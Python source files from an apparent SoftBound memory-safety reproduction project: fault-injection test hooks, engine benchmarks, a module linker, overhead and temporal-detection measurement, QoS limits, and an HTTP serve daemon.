  :func:`install`; subprocess drills arm them through the
  ``REPRO_STORE_FAULTS`` environment variable (``"torn_write:1,eperm:2"``
  — fault name ``:`` trigger count, count defaulting to 1).  Each armed
  fault fires ``count`` times, then disarms; unarmed points are free.

The registry is deliberately process-local and explicit: production
code paths call :func:`consume`/:func:`mangle_payload` unconditionally,
and with nothing armed those are cheap no-ops — the fault surface ships
in-tree so the CI chaos drills exercise the *real* degradation paths,
not test doubles.
"""

import errno
import os
import signal
import time

#: Environment variable arming store faults in a fresh process.
ENV_VAR = "REPRO_STORE_FAULTS"

#: Known fault names (a typo in a drill should fail loudly, not no-op).
FAULT_NAMES = (
    "torn_write",      # commit only a prefix of the payload bytes
    "bitflip",         # flip one bit in the committed payload
    "eperm",           # EPERM when opening the entry for writing
    "disk_full",       # ENOSPC while writing the entry
    "sigkill_replace", # SIGKILL between tmp write and atomic replace
    "sigkill_locked",  # SIGKILL while holding the entry lock
)

_armed = {}   # fault name -> remaining trigger count
_fired = {}   # fault name -> times fired so far
_env_loaded = False


def install(name, times=1):
    """Arm ``name`` to fire on its next ``times`` consultations."""
    if name not in FAULT_NAMES:
        raise ValueError(f"unknown fault {name!r}; known: {FAULT_NAMES}")
    _armed[name] = _armed.get(name, 0) + times


def clear():
    """Disarm everything and forget firing history (test isolation).
    Also suppresses (re-)reading ``REPRO_STORE_FAULTS`` in this
    process, so a cleared registry stays cleared."""
    global _env_loaded
    _armed.clear()
    _fired.clear()
    _env_loaded = True


def fired(name):
    """How many times ``name`` has fired in this process."""
    return _fired.get(name, 0)


def armed(name):
    """Remaining trigger count for ``name``."""
    _load_env()
    return _armed.get(name, 0)


def _load_env():
    """Arm faults named in ``REPRO_STORE_FAULTS`` (once per process)."""
    global _env_loaded
    if _env_loaded:
        return
    _env_loaded = True
    spec = os.environ.get(ENV_VAR, "")
    for part in spec.split(","):
        part = part.strip()
        if not part:
            continue
        name, _, count = part.partition(":")
        install(name, int(count) if count else 1)


def consume(name):
    """True when an armed ``name`` fault should fire now (and charge
    one trigger); False when unarmed."""
    _load_env()
    remaining = _armed.get(name, 0)
    if remaining <= 0:
        return False
    _armed[name] = remaining - 1
    _fired[name] = _fired.get(name, 0) + 1
    return True


# -- store fault points ------------------------------------------------

def mangle_payload(data):
    """The payload bytes that actually reach the disk: a torn write
    commits only a prefix, a bit flip corrupts one byte in the middle.
    With nothing armed, ``data`` passes through untouched."""
    if consume("torn_write"):
        return data[:max(len(data) // 2, 1)]
    if consume("bitflip"):
        index = len(data) // 2
        return data[:index] + bytes([data[index] ^ 0x40]) + data[index + 1:]
    return data


def check_write_open():
    """Raise the armed filesystem error a write would hit (EPERM on a
    read-only store, ENOSPC on a full disk)."""
    if consume("eperm"):
        raise PermissionError(errno.EPERM, "injected EPERM (store fault)")
    if consume("disk_full"):
        raise OSError(errno.ENOSPC, "injected ENOSPC (store fault)")


def maybe_die(point):
    """SIGKILL this process at ``point`` (``"replace"`` — between the
    tmp write and the atomic rename; ``"locked"`` — while holding the
    entry lock) when the matching fault is armed."""
    if consume(f"sigkill_{point}"):
        os.kill(os.getpid(), signal.SIGKILL)


# -- subprocess hooks (the former repro.fuzz._testhooks) ----------------

def echo(value):
    """Round-trip check."""
    return value


def hang(seconds=3600.0):
    """Simulate a wedged task: sleep far past any sane deadline."""
    time.sleep(seconds)
    return "woke"


def kill_self():
    """Simulate a segfaulting/OOM-killed worker: die without a reply."""
    os.kill(os.getpid(), signal.SIGKILL)


def kill_self_once(marker_path):
    """Die the first time, succeed on the retry — the infra-flake shape
    the requeue-once policy exists for."""
    if not os.path.exists(marker_path):
        with open(marker_path, "w") as handle:
            handle.write(str(os.getpid()))
        os.kill(os.getpid(), signal.SIGKILL)
    return "recovered"


def flaky_once(marker_path):
    """Raise in-band the first time, succeed on the retry."""
    if not os.path.exists(marker_path):
        with open(marker_path, "w") as handle:
            handle.write(str(os.getpid()))
        raise RuntimeError("injected flake (first attempt)")
    return "recovered"


def bump_metric(amount=1, name="repro_test_bump_total"):
    """Bump a counter in the shared obs registry inside a worker — the
    metrics-merge drills assert the parent sees exactly the sum of the
    successful attempts' deltas."""
    from ..obs.metrics import default_registry

    default_registry().counter(name).inc(amount)
    return amount


def write_pid(path):
    """Report the worker's pid so a test can SIGKILL it externally."""
    with open(path, "w") as handle:
        handle.write(str(os.getpid()))
    return os.getpid()
