"""Host wall-clock benchmarks for the two VM engines.

This is the *other* time axis (see PERFORMANCE.md): not the simulated
x86 cost model the paper's figures are built from, but how fast the host
VM itself executes — the axis the closure-compiled engine
(:mod:`repro.vm.engine`) exists to improve.  ``run_benchmarks`` times
the full workload corpus under both the reference interpreter and the
compiled engine, excluding machine instantiation (memory-image setup is
engine-independent), and reports per-workload ops/sec plus the
engine-vs-engine speedup whose geometric mean the perf gate tracks.

``benchmarks/bench_wallclock.py`` and ``python -m repro bench`` are thin
wrappers; results are recorded in ``BENCH_interp.json`` at the repo
root so the perf trajectory is visible PR over PR and CI can fail on
regressions.
"""

import json
import math
import time

#: Subset used by CI and ``--quick``: two scalar-heavy and two
#: pointer/call-heavy workloads, the extremes of the engine's fast paths.
QUICK_WORKLOADS = ("go", "compress", "health", "treeadd")

ENGINES = ("interp", "compiled")


def _time_engine(compiled, engine, repeats):
    """Best-of-``repeats`` execution seconds (plus one warm-up run that
    also sanity-checks the result and populates compiled templates)."""
    machine = compiled.instantiate(engine=engine)
    result = machine.run()
    instructions = result.stats.instructions
    best = None
    for _ in range(repeats):
        machine = compiled.instantiate(engine=engine)
        start = time.perf_counter()
        machine.run()
        elapsed = time.perf_counter() - start
        if best is None or elapsed < best:
            best = elapsed
    return best, instructions, result


def run_benchmarks(names=None, repeats=2, quick=False):
    """Time the workload corpus under both engines.

    Returns a report dict (see ``BENCH_interp.json``): per-workload
    seconds and ops/sec for each engine, the per-workload speedup, and
    the geometric-mean speedup.
    """
    from ..api import compile_source
    from ..workloads.programs import WORKLOADS

    if names is None:
        names = tuple(QUICK_WORKLOADS) if quick else tuple(WORKLOADS)
    workloads = {}
    speedups = []
    for name in names:
        workload = WORKLOADS[name]
        compiled = compile_source(workload.source)
        entry = {}
        instructions = None
        for engine in ENGINES:
            seconds, instructions, result = _time_engine(compiled, engine, repeats)
            if result.exit_code != workload.expected_exit:
                raise AssertionError(
                    f"{name} under {engine}: exit {result.exit_code}, "
                    f"expected {workload.expected_exit}")
            entry[engine] = {
                "seconds": round(seconds, 6),
                "ops_per_sec": round(instructions / seconds),
            }
        entry["instructions"] = instructions
        entry["speedup"] = round(
            entry["interp"]["seconds"] / entry["compiled"]["seconds"], 3)
        # The normalized per-workload headline (bench-v2 schema: every
        # BENCH_*.json carries workloads/{name}/value, metric, geomean
        # and config — diffable by scripts/bench_diff.py).
        entry["value"] = entry["speedup"]
        speedups.append(entry["speedup"])
        workloads[name] = entry
    geomean = math.exp(sum(map(math.log, speedups)) / len(speedups))
    return {
        "schema": "bench-v2",
        "benchmark": "vm-engine-wallclock",
        "metric": "wallclock_speedup",
        "config": "interp-vs-compiled",
        "generated_at": time.strftime("%Y-%m-%dT%H:%M:%S"),
        "engines": list(ENGINES),
        "repeats": repeats,
        "quick": bool(quick),
        "workloads": workloads,
        "geomean": round(geomean, 3),
        "geomean_speedup": round(geomean, 3),
    }


def render_report(report):
    lines = [
        "Wall-clock: reference interpreter vs closure-compiled engine",
        "",
        f"{'workload':<12} {'interp ms':>10} {'compiled ms':>12} "
        f"{'compiled ops/s':>15} {'speedup':>8}",
    ]
    for name, entry in report["workloads"].items():
        lines.append(
            f"{name:<12} {entry['interp']['seconds'] * 1000:>10.1f} "
            f"{entry['compiled']['seconds'] * 1000:>12.1f} "
            f"{entry['compiled']['ops_per_sec']:>15,} "
            f"{entry['speedup']:>7.2f}x")
    lines.append("")
    lines.append(f"geometric-mean speedup: {report['geomean_speedup']:.2f}x")
    return "\n".join(lines)


def write_report(report, path):
    with open(path, "w") as handle:
        json.dump(report, handle, indent=2, sort_keys=True)
        handle.write("\n")
    return path


def load_report(path):
    with open(path) as handle:
        return json.load(handle)
