"""Multi-module compilation and linking (paper Sections 3.3 and 5.2).

SoftBound's transformation is strictly intra-procedural and its calling
convention is resolved by symbol name (``_sb_`` renaming), which is what
makes separate compilation work: "Separate compilation works naturally,
as the static or dynamic linker matches up caller and callee as usual."

:func:`compile_module` compiles one translation unit — with or without
the SoftBound transform — knowing nothing about the others.
:func:`link_modules` then plays the linker: it merges the units,
deduplicates string literals, rejects duplicate definitions, and leaves
symbol resolution to run time exactly like a real linker leaves it to
relocation.  Mixed links (a transformed main against an untransformed
library, or vice versa) are legal, reproducing the paper's library
story: calls into untransformed code simply carry no bounds back.
"""

from ..api.profiles import ProtectionProfile
from ..api.toolchain import CompiledProgram, Toolchain
from ..ir.module import Module
from ..ir.values import SymbolRef
from ..ir.verifier import verify_module


class LinkError(Exception):
    """Duplicate or irreconcilable definitions between modules."""


def compile_module(source, softbound=None, optimize=True, verify=True,
                   name="module"):
    """Compile one translation unit in isolation (no main required) —
    the :class:`repro.api.Toolchain` in unit mode (unresolved symbols
    verify clean; the bare module is returned for linking)."""
    toolchain = Toolchain(profile=ProtectionProfile.from_config(softbound),
                          optimize=optimize, verify=verify, unit_mode=True)
    return toolchain.compile(source, name=name)


def link_modules(modules, softbound=None, name="linked"):
    """Merge compiled translation units into one executable module.

    ``softbound`` is the configuration the *runtime* should use; pass
    the one the transformed modules were compiled with (modules may also
    be a mix of transformed and untransformed units).
    """
    linked = Module(name)
    linked.sb_aliases = {}
    for module in modules:
        renames = {}
        for gname, gvar in module.globals.items():
            if gvar.is_string_literal:
                # Re-intern: deduplicates across units and assigns a
                # collision-free name.
                renames[gname] = linked.intern_string(gvar.data[:-1])
                continue
            if gname in linked.globals:
                raise LinkError(f"duplicate definition of global '{gname}' "
                                f"(in {module.name})")
            linked.add_global(gvar)
        for fname, func in module.functions.items():
            if fname in linked.functions:
                raise LinkError(f"duplicate definition of function "
                                f"'{fname}' (in {module.name})")
            linked.add_function(func)
        if renames:
            _rewrite_symbols(module, renames)
        linked.sb_aliases.update(getattr(module, "sb_aliases", {}) or {})
    # The strict (link-time) verification: every symbol must now resolve.
    verify_module(linked)
    return CompiledProgram(module=linked, softbound_config=softbound)


def compile_and_link(sources, softbound=None, optimize=True, verify=True):
    """Compile each source separately, then link.  The SoftBound
    transform — when requested — is applied per unit, before linking,
    which is the property the paper's Section 3.3 design exists to
    support."""
    modules = [
        compile_module(source, softbound=softbound, optimize=optimize,
                       verify=verify, name=f"tu{index}")
        for index, source in enumerate(sources)
    ]
    return link_modules(modules, softbound=softbound)


_OPERAND_ATTRS = ("addr", "value", "a", "b", "base", "offset", "src", "cond",
                  "callee_reg", "dst_addr", "src_addr", "ptr", "bound", "size")


def _rewrite_symbols(module, renames):
    """Point every SymbolRef at the post-link (renamed) global names."""

    def fix(value):
        if isinstance(value, SymbolRef) and value.name in renames:
            return SymbolRef(renames[value.name],
                             addend=getattr(value, "addend", 0))
        return value

    for func in module.functions.values():
        for instr in func.instructions():
            for attr in _OPERAND_ATTRS:
                operand = getattr(instr, attr, None)
                if operand is not None:
                    replacement = fix(operand)
                    if replacement is not operand:
                        setattr(instr, attr, replacement)
            args = getattr(instr, "args", None)
            if args:
                for i, arg in enumerate(args):
                    args[i] = fix(arg)
            meta = getattr(instr, "sb_meta", None)
            if meta is not None:
                instr.sb_meta = (fix(meta[0]), fix(meta[1]))
    for gvar in module.globals.values():
        if gvar.relocs:
            gvar.relocs = [(off, renames.get(sym, sym), addend)
                           for off, sym, addend in gvar.relocs]
