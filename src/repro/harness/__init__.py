"""Experiment harness: pipeline driver, statistics, table/figure generators."""
