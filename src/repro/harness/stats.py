"""Measurement helpers used by tests and the benchmark harness.

Centralizes "run workload W under configuration C and report the paper's
metrics" so that Figure 1, Figure 2 and the Section 6.5 comparison all
share one measurement path.  Results are memoized per process because
the benchmark files ask for overlapping slices of the same sweep.
"""

from dataclasses import dataclass, field

from ..api import ProtectionProfile, run_source
from ..softbound.config import FIGURE2_CONFIGS
from ..vm.costs import overhead_percent
from ..workloads.programs import WORKLOADS

_MEASUREMENT_CACHE = {}


@dataclass
class WorkloadMeasurement:
    name: str
    suite: str
    config_label: str
    exit_code: int
    trap: object
    cost: int
    instructions: int
    memory_ops: int
    pointer_memory_ops: int
    checks: int
    metadata_loads: int
    metadata_stores: int
    metadata_bytes: int

    @property
    def pointer_fraction(self):
        if self.memory_ops == 0:
            return 0.0
        return self.pointer_memory_ops / self.memory_ops


def _cache_key(workload_name, config=None, observer_factory=None):
    return (workload_name,
            config.label if config is not None else
            (observer_factory.__name__ if observer_factory else "baseline"),
            getattr(config, "variant", ""),
            getattr(config, "optimize_checks", True),
            getattr(config, "loop_optimize", True))


def is_measurement_cached(workload_name, config=None, observer_factory=None):
    return _cache_key(workload_name, config, observer_factory) in _MEASUREMENT_CACHE


def seed_measurement(measurement, workload_name, config=None,
                     observer_factory=None):
    """Install an externally computed measurement (the ``--jobs``
    process-pool fan-out seeds the per-process cache with worker
    results; every machine is deterministic, so a worker's measurement
    is bit-identical to one computed here)."""
    _MEASUREMENT_CACHE[_cache_key(workload_name, config, observer_factory)] \
        = measurement
    return measurement


def measure(workload_name, config=None, observer_factory=None):
    """Compile and run one workload under one configuration (memoized).

    ``config`` is a SoftBoundConfig or None; ``observer_factory`` builds a
    fresh baseline observer per run (observers carry per-run state).
    """
    key = _cache_key(workload_name, config, observer_factory)
    if key in _MEASUREMENT_CACHE:
        return _MEASUREMENT_CACHE[key]
    wl = WORKLOADS[workload_name]
    profile = ProtectionProfile.from_config(config, observer_factory)
    result = run_source(wl.source, profile=profile, name=wl.name)
    stats = result.stats
    m = WorkloadMeasurement(
        name=wl.name,
        suite=wl.suite,
        config_label=key[1],
        exit_code=result.exit_code,
        trap=result.trap,
        cost=stats.cost,
        instructions=stats.instructions,
        memory_ops=stats.memory_ops,
        pointer_memory_ops=stats.pointer_memory_ops,
        checks=stats.checks,
        metadata_loads=stats.metadata_loads,
        metadata_stores=stats.metadata_stores,
        metadata_bytes=stats.metadata_bytes,
    )
    _MEASUREMENT_CACHE[key] = m
    return m


def pointer_fractions():
    """Figure 1's series: {workload: fraction}, uninstrumented runs."""
    return {name: measure(name).pointer_fraction for name in WORKLOADS}


def overhead_matrix(configs=FIGURE2_CONFIGS, workload_names=None):
    """Figure 2's matrix: {config_label: {workload: overhead %}}.

    Also sanity-checks behavioural equivalence: instrumented runs must
    produce the same exit code as the baseline.
    """
    names = list(workload_names or WORKLOADS)
    matrix = {}
    for config in configs:
        row = {}
        for name in names:
            base = measure(name)
            inst = measure(name, config)
            if inst.trap is not None or inst.exit_code != base.exit_code:
                raise AssertionError(
                    f"{name} under {config.label}: behaviour diverged "
                    f"({inst.trap}, exit {inst.exit_code} vs {base.exit_code})")
            row[name] = overhead_percent(base.cost, inst.cost)
        matrix[config.label] = row
    return matrix


def average(values):
    values = list(values)
    return sum(values) / len(values) if values else 0.0
