"""Temporal-safety measurement: detection matrix and overhead sweep.

Two products, both deterministic cost-model work:

* :func:`temporal_detection` — one temporal attack's outcome triple
  under (unprotected, spatial-only, spatial+temporal), the rows of the
  temporal detection table (``python -m repro tables temporal``).
* :func:`run_temporal_overhead` — the Figure 2-style overhead sweep
  with temporal checking on top of spatial: per workload, the
  instrumented overhead of spatial-only and spatial+temporal over the
  unprotected baseline, with behavioural equivalence asserted inside
  the measurement (a temporal false positive on a correct program
  fails the sweep loudly).  Records ``BENCH_temporal.json`` in the
  normalized ``bench-v2`` schema shared by every ``BENCH_*.json``
  (workloads / metric / geomean / config — see
  ``scripts/bench_diff.py``).
"""

import json
import math

from ..api import run_source
from ..softbound.config import TEMPORAL_SHADOW
from ..vm.errors import TrapKind
from ..workloads.programs import WORKLOADS
from ..workloads.temporal_attacks import TEMPORAL_ATTACKS


def _geomean(values):
    values = [max(v, 1e-9) for v in values]
    return math.exp(sum(map(math.log, values)) / len(values)) if values else 0.0


# -- detection ----------------------------------------------------------------

def temporal_detection(name):
    """``(exploited, spatial_outcome, temporal_detected)`` for one
    temporal attack.

    * ``exploited`` — the unprotected run leaked/hijacked (payload exit
      code) or, for double free, ran silently wrong.
    * ``spatial_outcome`` — what spatial-only Full checking observed:
      ``"missed"`` (ran to the same wrong result) or the trap kind it
      stumbled on *after* the temporal violation already happened
      (e.g. the function-pointer encoding check catching a hijack at
      dispatch time, not the use-after-free write that planted it).
    * ``temporal_detected`` — spatial+temporal trapped with a precise
      ``temporal_violation``.
    """
    attack = TEMPORAL_ATTACKS[name]
    plain = run_source(attack.source, name=name)
    spatial = run_source(attack.source, profile="spatial", name=name)
    temporal = run_source(attack.source, profile="temporal", name=name)
    if spatial.trap is None:
        spatial_outcome = "missed"
    else:
        spatial_outcome = spatial.trap.kind.value
    temporal_detected = (temporal.trap is not None
                         and temporal.trap.kind is TrapKind.TEMPORAL_VIOLATION)
    return (bool(plain.attack_succeeded), spatial_outcome, temporal_detected)


def policy_temporal_detection(profile_name):
    """``{attack_name: outcome}`` for one registered policy over the
    temporal attack suite — the measurement behind a policy's extension
    row in the temporal detection table
    (:meth:`repro.policy.base.CheckerPolicy.temporal_row`).

    Outcomes are the trap-kind wire value (``"temporal_violation"``,
    ``"spatial_violation"``, ...) or ``"missed"`` — extension checkers
    are often *best-effort* (a quarantine scheme loses entries to
    allocator reuse), and the row reports what actually happened rather
    than a claim.
    """
    out = {}
    for name, attack in TEMPORAL_ATTACKS.items():
        result = run_source(attack.source, profile=profile_name, name=name)
        out[name] = (result.trap.kind.value if result.trap is not None
                     else "missed")
    return out


# -- overhead -----------------------------------------------------------------

def run_temporal_overhead(workload_names=None):
    """Measure every workload unprotected vs spatial-only vs
    spatial+temporal; returns the ``BENCH_temporal.json`` report dict.

    Spatial and temporal runs must be behaviourally identical to the
    baseline (same exit code and output, no trap): the temporal pass
    may cost, never change, a correct program.
    """
    names = list(workload_names or WORKLOADS)
    per_workload = {}
    for name in names:
        source = WORKLOADS[name].source
        base = run_source(source, name=name)
        spatial = run_source(source, profile="spatial", name=name)
        temporal = run_source(source, profile="temporal", name=name)
        for label, result in (("spatial", spatial), ("temporal", temporal)):
            if result.trap is not None or result.exit_code != base.exit_code \
                    or result.output != base.output:
                raise AssertionError(
                    f"{name}: behaviour diverged under {label} "
                    f"instrumentation ({result.trap})")
        spatial_pct = (spatial.stats.cost / base.stats.cost - 1.0) * 100.0
        temporal_pct = (temporal.stats.cost / base.stats.cost - 1.0) * 100.0
        extra_pct = (temporal.stats.cost / spatial.stats.cost - 1.0) * 100.0
        per_workload[name] = {
            "spatial_overhead_pct": round(spatial_pct, 3),
            "temporal_overhead_pct": round(temporal_pct, 3),
            "temporal_extra_pct": round(extra_pct, 3),
            "temporal_checks": temporal.stats.temporal_checks,
            "checks": temporal.stats.checks,
            # The normalized per-workload headline (bench-v2 schema).
            "value": round(temporal_pct, 3),
        }

    def geo(key):
        return round(_geomean([row[key] for row in per_workload.values()]), 3)

    report = {
        "schema": "bench-v2",
        "benchmark": "temporal-overhead",
        "metric": "instrumented_overhead_pct",
        "config": TEMPORAL_SHADOW.label,
        "workloads": per_workload,
        "geomean": geo("temporal_overhead_pct"),
        "geomean_spatial_pct": geo("spatial_overhead_pct"),
        "geomean_temporal_pct": geo("temporal_overhead_pct"),
        "geomean_temporal_extra_pct": geo("temporal_extra_pct"),
    }
    return report


def render_temporal_overhead(report):
    lines = ["Temporal checking overhead: unprotected -> spatial (Full-"
             "Shadow) -> spatial+temporal, cost-model units",
             ""]
    header = (f"{'workload':12s} {'spatial':>9s} {'temporal':>9s} "
              f"{'extra':>8s} {'t-checks':>10s}")
    lines.append(header)
    lines.append("-" * len(header))
    for name, row in report["workloads"].items():
        lines.append(
            f"{name:12s} {row['spatial_overhead_pct']:8.1f}% "
            f"{row['temporal_overhead_pct']:8.1f}% "
            f"{row['temporal_extra_pct']:7.1f}% "
            f"{row['temporal_checks']:10d}")
    lines.append("")
    lines.append(
        f"geomean overhead: spatial {report['geomean_spatial_pct']:.1f}% -> "
        f"spatial+temporal {report['geomean_temporal_pct']:.1f}% "
        f"(+{report['geomean_temporal_extra_pct']:.1f}% on top of spatial)")
    return "\n".join(lines)


def write_report(report, path):
    with open(path, "w") as handle:
        json.dump(report, handle, indent=2, sort_keys=True)
        handle.write("\n")
    return path


def load_report(path):
    with open(path) as handle:
        return json.load(handle)
