"""Quality-of-service enforcement for the serve daemon.

Three budgets protect the fleet from any single request:

* **Instruction budgets.**  Every request runs under a VM instruction
  limit (the cost model's existing resource limit): the default is the
  QoS policy's ``default_budget``; a request may ask for less or more
  via its ``budget`` field, but never past ``max_budget`` — asking for
  more is a usage error (HTTP 400), not a silent clamp.  A program that
  exhausts its budget traps with ``resource_limit`` and maps to the
  CLI's exit-5 family (HTTP 500), exactly like a one-shot run.
* **Wallclock deadlines.**  The instruction budget bounds work *inside*
  the VM; the deadline is the backstop for everything outside it (a
  wedged worker, a pathological compile).  A worker past its deadline
  is SIGKILLed and respawned — the :mod:`repro.fuzz.pool` kill
  discipline — and the request resolves 504 without touching any other
  in-flight request.
* **Bounded admission.**  Requests past the worker pool are queued; a
  queue at its bound sheds load with 503 (``AdmissionError``) instead
  of queueing unboundedly.  Shed requests are the cheapest possible
  failure: no compile, no worker, one counter bump.

The policy object is frozen so one instance can be shared across the
asyncio front-end and every drain thread without locking.
"""

from dataclasses import dataclass

from ..api.profiles import UsageError

#: Instruction budget a request gets when it does not ask (enough for
#: every bundled workload at full instrumentation, with margin).
DEFAULT_BUDGET = 50_000_000
#: Hard per-request ceiling; requests asking past it are rejected 400.
MAX_BUDGET = 200_000_000
#: Wallclock deadline per request (seconds), compile included.
DEFAULT_DEADLINE = 30.0


class AdmissionError(Exception):
    """The admission queue is at its bound; the request is shed (503)."""

    def __init__(self, depth, limit):
        super().__init__(f"admission queue full ({depth}/{limit})")
        self.depth = depth
        self.limit = limit


@dataclass(frozen=True)
class QosPolicy:
    """The per-request budgets one daemon enforces."""

    default_budget: int = DEFAULT_BUDGET
    max_budget: int = MAX_BUDGET
    deadline_seconds: float = DEFAULT_DEADLINE
    queue_limit: int = 16

    def resolve_budget(self, requested):
        """The instruction budget one request runs under.  ``None``
        means "the default"; explicit values must be positive and
        within ``max_budget``."""
        if requested is None:
            return self.default_budget
        if not isinstance(requested, int) or isinstance(requested, bool):
            raise UsageError(f"budget must be an integer, "
                             f"got {type(requested).__name__}")
        if requested <= 0:
            raise UsageError(f"budget must be positive, got {requested}")
        if requested > self.max_budget:
            raise UsageError(f"budget {requested} exceeds the per-request "
                             f"ceiling {self.max_budget}")
        return requested

    def admit(self, queue_depth):
        """Admission control: raises :class:`AdmissionError` when the
        queue is at its bound."""
        if queue_depth >= self.queue_limit:
            raise AdmissionError(queue_depth, self.queue_limit)
