"""The serve daemon's asyncio HTTP front-end.

A deliberately small HTTP/1.1 server (standard library only, one
request per connection) in front of the :class:`~repro.serve.workers.
WarmPool`.  The wire contract:

* ``POST /run`` — compile (three-level cached) and execute the posted
  C source under a registered protection profile; the response body is
  the :meth:`RunReport.to_json() <repro.api.reports.RunReport.to_json>`
  row, bit-identical to ``python -m repro run --json`` apart from host
  wallclock and the cache/obs blocks.
* ``POST /check`` — ``/run`` with the profile defaulting to
  ``spatial`` (``"temporal": true`` selects ``temporal``), the CLI
  ``check`` shorthand.
* ``POST /compile`` — compile and warm the caches without running;
  returns the artifact key and cache origin.
* ``GET /metrics`` — JSON snapshot of the ``repro_serve_*`` (and all
  other) metric series plus derived latency quantiles.
* ``GET /healthz`` — liveness: worker pids, queue depth, uptime.

The HTTP status mapping mirrors the CLI exit-code contract
deterministically (the ``X-Repro-Exit-Code`` header carries the exact
code): 0→200, 2/3 (detected violation — the request *succeeded at
detecting*, but the program is hostile)→403, 4 (compile/link
error)→422, 5 (VM trap incl. exhausted instruction budget)→500,
64→400.  One refinement over the raw exit code: a program that runs to
completion is 200 *whatever its own exit status was* (the CLI passes
that through as its exit code; HTTP reports it in the body's
``exit_code`` instead) — the trap field, not the number, decides.  Serve-level degradations use their own statuses: 503 when the
admission queue sheds the request, 504 when the wallclock deadline
kills a hung worker, 500 when a request kills its worker twice.
"""

import asyncio
import base64
import binascii
import json
import threading
import time

from ..api.env import resolve_engine, resolve_serve, resolve_store
from ..api.profiles import PROFILES, UsageError
from ..obs.metrics import default_registry, histogram_quantile
from ..obs.trace import tracer
from .qos import AdmissionError, QosPolicy
from .workers import CRASH, OK, TIMEOUT, WarmPool

#: Request bodies past this are rejected 413 before JSON parsing.
MAX_BODY_BYTES = 4 * 1024 * 1024

#: CLI exit code → HTTP status (the deterministic mapping; see module
#: docstring for the rationale per row).
STATUS_FOR_EXIT = {0: 200, 2: 403, 3: 403, 4: 422, 5: 500, 64: 400}

#: CLI exit code → requests_total outcome label.
OUTCOME_FOR_EXIT = {0: "ok", 2: "spatial", 3: "temporal",
                    4: "compile_error", 5: "trap", 64: "usage_error"}

#: The JSON fields one request may carry (anything else is a 400 —
#: a typo like "profle" must never silently run unprotected).
REQUEST_FIELDS = frozenset((
    "name", "source", "profile", "opt", "input", "input_b64", "entry",
    "engine", "budget", "temporal", "test_fault",
))

_LATENCY_BUCKETS = (0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5,
                    1.0, 2.5, 5.0, 10.0, 30.0)


def validate_request(doc, route="/run", qos=None, allow_test_faults=False):
    """Validate one decoded request document into a worker payload.

    Raises :class:`~repro.api.profiles.UsageError` (→ 400) on any
    malformed field; the error message names the field so clients can
    fix the request without reading server logs.
    """
    qos = qos if qos is not None else QosPolicy()
    if not isinstance(doc, dict):
        raise UsageError("request body must be a JSON object")
    unknown = sorted(set(doc) - REQUEST_FIELDS)
    if unknown:
        raise UsageError(f"unknown request field(s): {', '.join(unknown)}; "
                         f"allowed: {', '.join(sorted(REQUEST_FIELDS))}")
    source = doc.get("source")
    if not isinstance(source, str) or not source.strip():
        raise UsageError("'source' must be a non-empty string of C code")
    if route == "/check":
        if "profile" in doc:
            raise UsageError("/check selects the profile itself "
                             "(spatial, or temporal with 'temporal': "
                             "true); POST /run to pick one")
        profile = "temporal" if doc.get("temporal") else "spatial"
    else:
        if "temporal" in doc:
            raise UsageError("'temporal' is a /check field; "
                             "on /run pass 'profile' explicitly")
        profile = doc.get("profile", "none")
        if not isinstance(profile, str) or profile not in PROFILES:
            known = ", ".join(sorted(PROFILES))
            raise UsageError(f"unknown profile {profile!r}; "
                             f"registered: {known}")
    opt = doc.get("opt", True)
    if not isinstance(opt, bool):
        raise UsageError(f"'opt' must be a boolean, got {opt!r}")
    name = doc.get("name", "request")
    if not isinstance(name, str):
        raise UsageError(f"'name' must be a string, got {name!r}")
    entry = doc.get("entry", "main")
    if not isinstance(entry, str):
        raise UsageError(f"'entry' must be a string, got {entry!r}")
    if "input" in doc and "input_b64" in doc:
        raise UsageError("pass 'input' (text) or 'input_b64' (base64 "
                         "bytes), not both")
    if "input" in doc:
        if not isinstance(doc["input"], str):
            raise UsageError("'input' must be a string (use 'input_b64' "
                             "for binary)")
        input_data = doc["input"].encode("utf-8")
    elif "input_b64" in doc:
        try:
            input_data = base64.b64decode(doc["input_b64"], validate=True)
        except (TypeError, ValueError, binascii.Error):
            raise UsageError("'input_b64' is not valid base64") from None
    else:
        input_data = b""
    engine = doc.get("engine")
    if engine is not None:
        try:
            engine = resolve_engine(engine)
        except ValueError as error:
            raise UsageError(str(error)) from None
    budget = qos.resolve_budget(doc.get("budget"))
    payload = {
        "mode": "compile" if route == "/compile" else "run",
        "name": name,
        "source": source,
        "profile": profile,
        "opt": opt,
        "input": input_data,
        "entry": entry,
        "engine": engine,
        "budget": budget,
    }
    fault = doc.get("test_fault")
    if fault is not None:
        if not allow_test_faults:
            raise UsageError("'test_fault' requires the daemon to run "
                             "with --allow-test-faults")
        if fault not in ("hang", "exit"):
            raise UsageError(f"unknown test_fault {fault!r}; "
                             f"choose 'hang' or 'exit'")
        payload["test_fault"] = fault
    return payload


class ServeDaemon:
    """One daemon: config + QoS + warm pool + HTTP front-end.

    ``start()`` binds the socket (port 0 → OS-assigned; read ``.port``
    after) and spawns the workers; ``serve_forever()`` blocks in the
    event loop; ``aclose()`` drains: stop accepting, wait for in-flight
    requests up to the QoS deadline, then close the pool.
    """

    def __init__(self, config=None, qos=None, store_dir=None, engine=None,
                 allow_test_faults=False):
        self.config = config if config is not None else resolve_serve()
        self.qos = qos if qos is not None else QosPolicy(
            queue_limit=self.config.queue)
        self.store_dir = resolve_store(store_dir)
        self.engine = engine
        self.allow_test_faults = allow_test_faults
        self.pool = WarmPool(workers=self.config.workers,
                             deadline=self.qos.deadline_seconds)
        self.port = None
        self._server = None
        self._started = time.monotonic()
        self._inflight = set()
        registry = default_registry()
        self._registry = registry
        self._latency = registry.histogram("repro_serve_request_seconds",
                                           buckets=_LATENCY_BUCKETS)
        self._requests = lambda outcome: registry.counter(
            "repro_serve_requests_total", {"outcome": outcome})
        self._origins = lambda origin: registry.counter(
            "repro_serve_cache_origin_total", {"origin": origin})

    # -- lifecycle -----------------------------------------------------

    async def start(self):
        self.pool.start()
        self._server = await asyncio.start_server(
            self._handle_connection, host=self.config.host,
            port=self.config.port)
        self.port = self._server.sockets[0].getsockname()[1]
        self._started = time.monotonic()
        return self

    def ready_line(self):
        return (f"serve: listening on http://{self.config.host}:{self.port} "
                f"(workers={self.config.workers} "
                f"queue={self.qos.queue_limit} "
                f"store={self.store_dir or 'off'})")

    async def serve_forever(self):
        async with self._server:
            await self._server.serve_forever()

    async def aclose(self):
        """Graceful drain: refuse new connections, give in-flight
        requests one deadline to finish, then tear the pool down."""
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()
